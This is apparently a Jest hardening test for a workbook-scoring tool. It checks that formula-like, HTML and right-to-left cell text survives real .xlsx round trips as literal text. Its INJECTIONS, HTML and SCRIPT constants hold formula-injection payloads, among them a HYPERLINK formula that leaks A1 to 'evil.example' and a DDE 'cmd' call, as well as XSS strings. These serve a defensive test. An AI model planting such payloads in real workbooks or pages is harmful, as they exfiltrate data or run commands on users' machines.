/**
 * Hardening: hostile or odd cells, through real .xlsx round trips
 * (the test builder writes → readWorkbook → analyzeWorkbook → applyPlan → writeWorkbook → openpyxl reads back).
 *
 * Each sheet holds one odd case; every case must end without a throw, with sensible findings, and the
 * written workbook must keep the user's cells (formulas, hidden state) and never turn text into a formula.
 */
import * as fs from "fs";
import * as os from "os";
import * as path from "path";
import { analyzeWorkbook, cellWrites, SUMMARY_SHEET } from "../../src/core/index";
import { LEDGER_SHEET } from "../../src/core/ledger";
import { readActual } from "../../src/core/read-actual";
import { parseTarget } from "../../src/core/parse-target";
import type { Analysis, IndicatorResult, Issue, Report, TableResult } from "../../src/core/types";
import { run } from "../../src/cli/run";
import { applyPlan, writeWorkbook } from "../../src/xlsx/apply-plan";
import { readWorkbook } from "../../src/xlsx/read-workbook";
import { SELF_EVAL_HEADER, sha256 } from "./fixtures";
import { OpenpyxlBook, OpenpyxlCell, readWithOpenpyxl } from "../support/openpyxl";
import { address, buildXlsx, CellInput, parseAddress, SheetSpec } from "../support/xlsx-builder";

jest.setTimeout(60_000);

// eslint-disable-next-line @typescript-eslint/no-require-imports
const JSZip = require("jszip");

type Cell = CellInput;

/** A sheet being laid out for the test builder. */
type Sheet = SheetSpec & { cells: Record<string, CellInput> };

function sheet(name: string): Sheet {
  return { name, cells: {}, merges: [], rowProps: {}, cols: [] };
}

/** Sets row `r` from column A (null leaves a cell empty). */
function setRow(ws: Sheet, r: number, values: Cell[]): void {
  values.forEach((v, i) => {
    if (v !== null && v !== undefined) ws.cells[address(r, i + 1)] = v;
  });
}

/** Writes a small self-evaluation table at `top`: title, project, budget, header, rows. Returns the next free row. */
function table(
  ws: Sheet,
  top: number,
  project: string,
  rows: Cell[][],
  header = SELF_EVAL_HEADER
): number {
  let r = top;
  setRow(ws, r++, [`${project}绩效自评表`]);
  setRow(ws, r++, ["项目名称", project]);
  setRow(ws, r++, ["预算数", 100, "全年执行数", 95]);
  setRow(ws, r++, header);
  for (const row of rows) setRow(ws, r++, row);
  return r + 2;
}

// Formula-like texts a finance officer (or an attacker) may type; all must stay literal text.
const INJECTIONS = [
  '=HYPERLINK("http://evil.example/?x="&A1,"点我")',
  "+1+1",
  "-1+2",
  "@SUM(A1:A3)",
  "=cmd|' /C calc'!A0",
  "\t=1+1",
  "=1+1",
];
const HTML = "<img src=x onerror=alert(1)>";
const SCRIPT = "<script>alert('x')</script>";
const RTL_PROJECT = "مشروع التحول الرقمي 🚀 פרויקט";
const RLO = "\u202Eexe.txt";

let dir: string;
let input: string;
let output: string;
let inputHash: string;
let first: Analysis;
let report: Report;
/** The written workbook as openpyxl reads it (a reader the writer shares nothing with). */
let back: OpenpyxlBook;

/** A cell of the written workbook (an empty one when openpyxl lists nothing there). */
function cellOf(
  sheetName: string,
  ref: string
): OpenpyxlCell | { v: null; t: "n"; hyperlink: null } {
  return back.sheet(sheetName).cells[ref] ?? { v: null, t: "n", hyperlink: null };
}

/** A formula cell's formula, without "=" (undefined when the cell holds no formula). */
function formulaOf(sheetName: string, ref: string): string | undefined {
  const c = cellOf(sheetName, ref);
  return c.t === "f" && typeof c.v === "string" ? c.v.replace(/^=/, "") : undefined;
}

/** The cells of a sheet, by row number, then address. */
function rowsOf(sheetName: string): Map<number, Map<string, OpenpyxlCell>> {
  const rows = new Map<number, Map<string, OpenpyxlCell>>();
  for (const [ref, c] of Object.entries(back.sheet(sheetName).cells)) {
    const { row } = parseAddress(ref);
    if (!rows.has(row)) rows.set(row, new Map());
    rows.get(row)!.set(ref, c);
  }
  return rows;
}

function tableOf(sheet: string): TableResult {
  const t = report.tables.find((x) => x.sheet === sheet);
  if (!t) throw new Error(`no table on ${sheet}: ${report.tables.map((x) => x.sheet).join(", ")}`);
  return t;
}
function ind(sheet: string, name: string): IndicatorResult {
  const i = tableOf(sheet).indicators.find((x) => x.name === name);
  if (!i) throw new Error(`no indicator ${name} on ${sheet}`);
  return i;
}
function issuesAt(sheet: string, cell: string): Issue[] {
  return report.issues.filter((i) => i.sheet === sheet && i.cell === cell);
}

beforeAll(async () => {
  dir = fs.mkdtempSync(path.join(os.tmpdir(), "hardening-cells-"));
  // 1. Formulas and formula errors as actuals; a user formula where the engine wants to write.
  const f = sheet("公式");
  table(
    f,
    1,
    "公式项目",
    [
      ["产出指标", "数量指标", "除零", "≥6个", { f: "1/0", v: "#DIV/0!", t: "e" }],
      ["产出指标", "数量指标", "无值", "≥6个", { f: "NA()", v: "#N/A", t: "e" }],
      ["产出指标", "数量指标", "求和", "≥6个", { f: "3+4", v: 7 }],
      ["效益指标", "社会效益指标", "未计算", "≥6个", { f: "SUM(Z1:Z2)" }],
      [
        "满意度指标",
        "满意度",
        "满意度",
        "≥90%",
        { f: "0.5+0.45", v: 0.95, style: { numFmt: "0%" } },
      ],
    ],
    ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值", "偏差原因分析及改进措施", "得分"]
  );
  f.cells.G7 = { f: "10*1", v: 10 }; // the user's own formula in the 得分 column

  // 2. Numbers stored as text.
  const t = sheet("文本数字");
  table(t, 1, "文本项目", [
    ["产出指标", "质量指标", "百分比文本", "≥90%", "95%"],
    ["产出指标", "数量指标", "千分位文本", "≥1000元", "1,200.00"],
    ["产出指标", "数量指标", "全角", "≥95%", "９５％"],
    ["效益指标", "社会效益指标", "带空格", "≥6个", "  7  "],
    ["满意度指标", "满意度", "科学计数", "≥1000", "1.2E+03"],
  ]);

  // 3. Hidden rows and columns.
  const h = sheet("隐藏");
  table(h, 1, "隐藏项目", [
    ["产出指标", "数量指标", "可见行", "≥6个", "7个"],
    ["产出指标", "数量指标", "隐藏行", "≥6个", "3个"],
    ["效益指标", "社会效益指标", "效益", "作用显著", "达成"],
    ["满意度指标", "满意度", "满意度", "≥95%", "97%"],
  ]);
  h.rowProps![6] = { hidden: true };
  h.cols!.push({ min: 2, max: 2, hidden: true });

  // 4. A header over two merged rows.
  const m = sheet("合并表头");
  setRow(m, 1, ["合并项目绩效自评表"]);
  setRow(m, 2, ["项目名称", "合并项目"]);
  setRow(m, 3, ["预算数", 100, "全年执行数", 95]);
  setRow(m, 4, ["绩效指标", null, null, "指标值", "实际完成值"]);
  setRow(m, 5, ["一级指标", "二级指标", "三级指标"]);
  m.merges!.push("A4:C4", "D4:D5", "E4:E5");
  setRow(m, 6, ["产出指标", "数量指标", "合并行一", "≥6个", "7个"]);
  setRow(m, 7, [null, null, "合并行二", "≥6个", "6个"]);
  m.merges!.push("A6:A7", "B6:B7");
  setRow(m, 8, ["效益指标", "社会效益指标", "效益", "作用显著", "达成"]);
  setRow(m, 9, ["满意度指标", "满意度", "满意度", "≥95%", "97%"]);

  // 5. Two header rows in a row (a header pasted twice).
  const d = sheet("双表头");
  const hdr = ["一级指标", "二级指标", "三级指标", "指标值", "实际完成值"];
  setRow(d, 1, ["项目名称", "双表头项目"]);
  setRow(d, 2, ["预算数", 100, "全年执行数", 95]);
  setRow(d, 3, hdr);
  setRow(d, 4, hdr);
  setRow(d, 5, ["产出指标", "数量指标", "双表头指标", "≥6个", "7个"]);
  setRow(d, 6, ["效益指标", "社会效益指标", "效益", "作用显著", "达成"]);

  // 6. Right-to-left and emoji text.
  const e = sheet("RTL😀");
  table(e, 1, RTL_PROJECT, [
    ["产出指标", "数量指标", "مؤشر الجودة 🎯", "≥6个", "7个"],
    ["产出指标", "质量指标", "מדד איכות", "≥6个 👍", "7个😀"],
    ["效益指标", "社会效益指标", RLO, "作用显著✨", "达成✅"],
    ["满意度指标", "满意度", "👨‍👩‍👧 满意度", "≥95%", "97%"],
  ]);

  // 7. Formula-like text everywhere: project, title, names, targets, actuals, reasons, and the sheet name.
  const x = sheet("=SUM(1,2)");
  setRow(x, 1, ["+2025年绩效自评表"]);
  setRow(x, 2, ["项目名称", INJECTIONS[0]]);
  setRow(x, 3, ["预算数", 100, "全年执行数", 95]);
  setRow(x, 4, SELF_EVAL_HEADER);
  setRow(x, 5, ["产出指标", "=数量指标", INJECTIONS[1], "=100%", "100%"]);
  setRow(x, 6, ["产出指标", "@质量", INJECTIONS[2], "≥6个", INJECTIONS[4]]);
  setRow(x, 7, ["效益指标", "-效益", INJECTIONS[3], "=1+1", "=1+1", INJECTIONS[5]]);
  setRow(x, 8, ["满意度指标", "+满意度", INJECTIONS[6], "≥95%", "+97%", "=A1"]);

  // 8. HTML in cells.
  const w = sheet("<i>HTML");
  table(w, 1, HTML, [
    ["产出指标", "数量指标", SCRIPT, "≥6个", "<b>7</b>"],
    ["产出指标", "质量指标", HTML, `<i>≥6个</i>`, "7个"],
    ["效益指标", "社会效益指标", "效益", "作用显著", HTML, SCRIPT],
    ["满意度指标", "满意度", "满意度", "≥95%", "97%"],
  ]);

  input = path.join(dir, "odd.xlsx");
  fs.writeFileSync(input, await buildXlsx({ sheets: [f, t, h, m, d, e, x, w] }));
  inputHash = sha256(input);

  const read = await readWorkbook(input);
  first = analyzeWorkbook(read.sheets, {
    ledger: read.ledger,
    currentYear: 2025,
    source: "odd.xlsx",
  });
  report = first.report;
  applyPlan(read.workbook, first.plan);
  output = path.join(dir, "odd.scored.xlsx");
  await writeWorkbook(read.workbook, output);
  back = readWithOpenpyxl(output);
});

afterAll(() => {
  expect(sha256(input)).toBe(inputHash);
  fs.rmSync(dir, { recursive: true, force: true });
});

test("every sheet's table is found and scored without a throw", () => {
  expect(report.tables.map((t) => t.sheet).sort()).toEqual(
    ["公式", "文本数字", "隐藏", "合并表头", "双表头", "RTL😀", "=SUM(1,2)", "<i>HTML"].sort()
  );
});

describe("formulas and formula errors as actuals", () => {
  test("#DIV/0! and #N/A are ACTUAL_INVALID; a formula's cached number is scored", () => {
    expect(ind("公式", "除零")).toMatchObject({
      status: "invalid",
      score: null,
      actual: "#DIV/0!",
    });
    expect(ind("公式", "无值")).toMatchObject({ status: "invalid", score: null, actual: "#N/A" });
    expect(issuesAt("公式", "E5").map((i) => [i.code, i.severity])).toEqual([
      ["ACTUAL_INVALID", "error"],
    ]);
    expect(issuesAt("公式", "E6").map((i) => [i.code, i.severity])).toEqual([
      ["ACTUAL_INVALID", "error"],
    ]);
    expect(ind("公式", "求和")).toMatchObject({ status: "met", completion: 1.1667 });
    expect(ind("公式", "满意度")).toMatchObject({ status: "met" });
  });

  test("a formula with no cached result reads as missing", () => {
    expect(ind("公式", "未计算")).toMatchObject({ status: "missing", score: null });
    expect(issuesAt("公式", "E8").map((i) => i.code)).toEqual(["ACTUAL_MISSING"]);
  });

  test("the user's formulas are kept in the output; a number in the score column is the unit's own (复核, spec §7)", () => {
    expect(formulaOf("公式", "E5")).toBe("1/0");
    expect(formulaOf("公式", "E6")).toBe("NA()");
    expect(formulaOf("公式", "E7")).toBe("3+4");
    expect(formulaOf("公式", "E8")).toBe("SUM(Z1:Z2)");
    expect(formulaOf("公式", "G7")).toBe("10*1");
    // G7 holds 10 the tool did not write: the table is in review mode, and the unit's column is left alone.
    expect(tableOf("公式").review).toBe(true);
    expect(issuesAt("公式", "G7").map((i) => i.code)).not.toContain("OUTPUT_OCCUPIED");
    expect(cellOf("公式", "G9")?.v ?? null).toBeNull();
  });
});

describe("numbers stored as text", () => {
  test.each([
    ["百分比文本", 95 / 90],
    ["千分位文本", 1.2],
    ["全角", 1],
    ["带空格", 7 / 6],
    ["科学计数", 1.2],
  ])("%s is read as a number", (name, completion) => {
    const i = ind("文本数字", name);
    expect(i.status).toBe("met");
    expect(i.completion).toBeCloseTo(completion, 3); // completion is reported to 4 decimals
  });

  test("the text cells stay text in the output", () => {
    for (const [ref, text] of [
      ["E5", "95%"],
      ["E6", "1,200.00"],
      ["E7", "９５％"],
    ])
      expect([ref, cellOf("文本数字", ref).v, cellOf("文本数字", ref).t]).toEqual([ref, text, "s"]);
  });
});

describe("hidden rows and columns", () => {
  test("a hidden row is not scored (spec §1: not on the printed form), and said once", () => {
    expect(tableOf("隐藏").indicators.map((i) => i.name)).not.toContain("隐藏行");
    expect(
      report.issues.filter((i) => i.sheet === "隐藏" && i.code === "HIDDEN_ROWS")
    ).toHaveLength(1);
    expect(tableOf("隐藏").complete).toBe(true);
  });

  test("the hidden state is kept in the output", () => {
    const ws = back.sheet("隐藏");
    expect(ws.hiddenRows).toContain(6);
    expect(ws.hiddenCols).toContain("B");
    expect(ws.hiddenRows).not.toContain(5);
  });
});

describe("header layouts", () => {
  test("a header over two merged rows: one table, merged level cells inherited", () => {
    const t = tableOf("合并表头");
    expect(t.indicators.map((i) => [i.level1, i.level2, i.name, i.status])).toEqual([
      ["产出指标", "数量指标", "合并行一", "met"],
      ["产出指标", "数量指标", "合并行二", "met"],
      ["效益指标", "社会效益指标", "效益", "met"],
      ["满意度指标", "满意度", "满意度", "met"],
    ]);
    expect(t.complete).toBe(true);
    expect(back.sheet("合并表头").merges).toContain("B6:B7");
  });

  test("two identical header rows in a row: the indicators are scored, the headers are not overwritten", () => {
    const withRows = report.tables.filter((t) => t.sheet === "双表头" && t.indicators.length > 0);
    expect(withRows).toHaveLength(1);
    expect(withRows[0].indicators.map((i) => [i.name, i.status])).toEqual([
      ["双表头指标", "met"],
      ["效益", "met"],
    ]);
    expect([1, 2, 3, 4, 5].map((c) => cellOf("双表头", address(3, c)).v)).toEqual([
      "一级指标",
      "二级指标",
      "三级指标",
      "指标值",
      "实际完成值",
    ]);
    expect([1, 2, 3, 4, 5].map((c) => cellOf("双表头", address(4, c)).v)).toEqual([
      "一级指标",
      "二级指标",
      "三级指标",
      "指标值",
      "实际完成值",
    ]);
  });
});

describe("right-to-left and emoji text", () => {
  test("names, project and targets keep their characters; emoji around a figure do not break scoring", () => {
    const t = tableOf("RTL😀");
    expect(t.project).toBe(RTL_PROJECT);
    expect(ind("RTL😀", "مؤشر الجودة 🎯")).toMatchObject({ status: "met" });
    expect(ind("RTL😀", RLO)).toMatchObject({ target: "作用显著✨" });
    expect(ind("RTL😀", "👨‍👩‍👧 满意度")).toMatchObject({ status: "met" });
    // An emoji glued to a figure is not a unit: an honest finding, not a crash.
    const odd = ind("RTL😀", "מדד איכות");
    expect(["met", "invalid"]).toContain(odd.status);
  });
});

/** The summary sheet's rows after its heading, by project text (column B): each row's number. */
function summaryRows(): Map<string, number> {
  const out = new Map<string, number>();
  for (const [n, cells] of rowsOf(SUMMARY_SHEET)) {
    if (n === 1) continue;
    out.set(String(cells.get(`B${n}`)?.v ?? ""), n);
  }
  return out;
}

describe("formula-like text never becomes a formula", () => {
  test("the engine reads them as text: =100% is an equal target, the rest are names and invalid actuals", () => {
    expect(tableOf("=SUM(1,2)").project).toBe(INJECTIONS[0]);
    expect(ind("=SUM(1,2)", "+1+1")).toMatchObject({
      kind: "equal",
      status: "met",
      level2: "=数量指标",
    });
    expect(ind("=SUM(1,2)", "-1+2")).toMatchObject({ status: "invalid", actual: INJECTIONS[4] });
    expect(ind("=SUM(1,2)", "@SUM(A1:A3)").status).not.toBe("met");
  });

  test("summary sheet: project and sheet-name cells hold the literal string, no formula", () => {
    const rows = summaryRows();
    const row = rows.get(INJECTIONS[0]);
    expect(row).toBeDefined();
    const sheetCell = cellOf(SUMMARY_SHEET, `A${row}`);
    const projectCell = cellOf(SUMMARY_SHEET, `B${row}`);
    expect([sheetCell.v, sheetCell.t]).toEqual(["=SUM(1,2)", "s"]); // text, not a formula
    expect([projectCell.v, projectCell.t]).toEqual([INJECTIONS[0], "s"]);
    expect(projectCell.hyperlink).toBe("#'=SUM(1,2)'!A1");
    // HTML and RTL projects: literal too
    expect(rows.get(HTML)).toBeDefined();
    expect(rows.get(RTL_PROJECT)).toBeDefined();
  });

  test("the table's own cells are untouched and still text", () => {
    expect(cellOf("=SUM(1,2)", "B2").v).toBe(INJECTIONS[0]);
    expect(cellOf("=SUM(1,2)", "A1").v).toBe("+2025年绩效自评表");
    for (const addr of [
      "B5",
      "C5",
      "D5",
      "B6",
      "C6",
      "E6",
      "C7",
      "D7",
      "E7",
      "F7",
      "C8",
      "E8",
      "F8",
    ]) {
      expect([addr, cellOf("=SUM(1,2)", addr).t]).toEqual([addr, "s"]);
    }
  });

  test("the written file holds exactly the input's formulas (<f> elements), no more", async () => {
    const countF = async (file: string): Promise<Record<string, number>> => {
      const zip = await JSZip.loadAsync(fs.readFileSync(file));
      const counts: Record<string, number> = {};
      for (const name of Object.keys(zip.files).filter((n) =>
        /^xl\/worksheets\/sheet\d+\.xml$/.test(n)
      )) {
        const xml: string = await zip.file(name).async("string");
        counts[name] = (xml.match(/<f[\s>]/g) ?? []).length;
      }
      return counts;
    };
    const inF = await countF(input);
    const outF = await countF(output);
    const sum = (c: Record<string, number>) => Object.values(c).reduce((a, b) => a + b, 0);
    expect(sum(inF)).toBe(6); // E5:E9 and G7 of 公式
    expect(sum(outF)).toBe(sum(inF));
  });

  test("every written string cell in the output is a string cell (never a formula), across all sheets", () => {
    const written = new Set(cellWrites(first.plan).map((w) => `${w.sheet}!${w.row}:${w.col}`));
    for (const w of cellWrites(first.plan)) {
      if (typeof w.value !== "string") continue;
      const cell = cellOf(w.sheet, address(w.row + 1, w.col + 1));
      expect([w.sheet, w.value, cell.v, cell.t]).toEqual([w.sheet, w.value, w.value, "s"]);
    }
    expect(written.size).toBeGreaterThan(0);
    const summary = Object.entries(back.sheet(SUMMARY_SHEET).cells);
    expect(summary.length).toBeGreaterThan(0);
    for (const [ref, c] of summary) expect([ref, c.t]).not.toEqual([ref, "f"]);
    const ledger = back.sheet(LEDGER_SHEET);
    expect(ledger.state).toBe("veryHidden");
    const entries = Object.entries(ledger.cells);
    expect(entries.length).toBeGreaterThan(0);
    for (const [ref, c] of entries) expect([ref, c.t]).toEqual([ref, "s"]);
  });

  test("the JSON report (CLI --json -) carries the texts as plain JSON strings", async () => {
    let stdout = "";
    let stderr = "";
    const code = await run(["score", input, "--json", "-", "--lang", "en"], {
      stdout: (s) => (stdout += s),
      stderr: (s) => (stderr += s),
    });
    // Only the note on the formula saved without a result (the odd cell 公式!E8): the JSON is stdout's alone.
    expect(stderr).toBe(
      "note: 1 formula cell(s) hold no calculated result (e.g. 公式!E8) and read as blank; the file was probably made by a program and never calculated in Excel or WPS. Open and save it in Excel or WPS, then score again\n"
    );
    expect(code).toBe(1); // #DIV/0! and friends are errors
    const json = JSON.parse(stdout) as Report;
    expect(json.tables.find((t) => t.sheet === "=SUM(1,2)")!.project).toBe(INJECTIONS[0]);
    expect(json.tables.find((t) => t.sheet === "<i>HTML")!.project).toBe(HTML);
  });
});

describe("HTML in cells is kept literally", () => {
  test("report and output keep the markup as text", () => {
    expect(tableOf("<i>HTML").project).toBe(HTML);
    expect(ind("<i>HTML", SCRIPT)).toMatchObject({
      target: "≥6个",
      status: "invalid",
      actual: "<b>7</b>",
    });
    expect(ind("<i>HTML", HTML)).toMatchObject({ target: "<i>≥6个</i>" });
    expect(ind("<i>HTML", "效益")).toMatchObject({ status: "invalid", actual: HTML });
    expect(cellOf("<i>HTML", "B2").v).toBe(HTML);
    expect(cellOf("<i>HTML", "F7").v).toBe(SCRIPT);
    const msg = report.issues.find(
      (i) => i.sheet === "<i>HTML" && i.code === "ACTUAL_INVALID" && i.message.includes("<img")
    );
    expect(msg?.message).toContain(HTML);
  });
});

test("scoring the output again changes no cell and raises no new OUTPUT_OCCUPIED", async () => {
  const again = await readWorkbook(output);
  const second = analyzeWorkbook(again.sheets, { ledger: again.ledger, currentYear: 2025 });
  const occupied = (a: Analysis) => a.plan.skipped.map((i) => `${i.sheet}!${i.cell}`).sort();
  expect(occupied(second)).toEqual(occupied(first));
  // The same tables, with the same indicators and totals: the engine's own output (the result block beside a
  // two-row header) must not hide a table from the next run (locate-tables.ts headerOnlyUpTo).
  const shape = (r: Report) =>
    r.tables.map((t) => [t.sheet, t.headerRow, t.indicators.length, t.total]);
  expect(shape(second.report)).toEqual(shape(report));
  expect(second.plan.summary?.writes).toEqual(first.plan.summary?.writes);
  const grids = new Map(again.sheets.map((g) => [g.name, g]));
  for (const w of cellWrites(second.plan)) {
    const g = grids.get(w.sheet)!;
    const cur = g.values[w.row - g.originRow]?.[w.col - g.originCol] ?? null;
    if (typeof w.value === "number" && typeof cur === "number") expect(cur).toBeCloseTo(w.value, 9);
    else expect([w.sheet, w.row, w.col, cur]).toEqual([w.sheet, w.row, w.col, w.value]);
  }
});

describe("regressions found by these tests", () => {
  test("a long run of digits as an actual is read in linear time (read-actual PERCENT_IN_TEXT was quadratic)", () => {
    const target = parseTarget("≥6个", { defaultYear: 2025, cost: false });
    const digits = "9".repeat(200_000);
    const t0 = Date.now();
    const r = readActual(target, { value: digits, text: digits, isDate: false });
    expect(r.status).toBe("invalid");
    for (const t of ["作用显著", "2025年3月底前"])
      readActual(parseTarget(t, { defaultYear: 2025, cost: false }), {
        value: digits,
        text: `部分达成${digits}`,
        isDate: false,
      });
    expect(Date.now() - t0).toBeLessThan(2_000); // was ~65 s for 200,000 digits
  });

  test("部分达成（75%）still picks the point inside the band after the regex change", () => {
    const q = parseTarget("作用显著", { defaultYear: 2025, cost: false });
    expect(
      readActual(q, { value: "部分达成（75%）", text: "部分达成（75%）", isDate: false })
    ).toMatchObject({ band: "部分达成", bandFraction: 0.75 });
    expect(
      readActual(q, { value: "部分达成 62.5%", text: "部分达成 62.5%", isDate: false })
    ).toMatchObject({ band: "部分达成", bandFraction: 0.625 });
  });
});
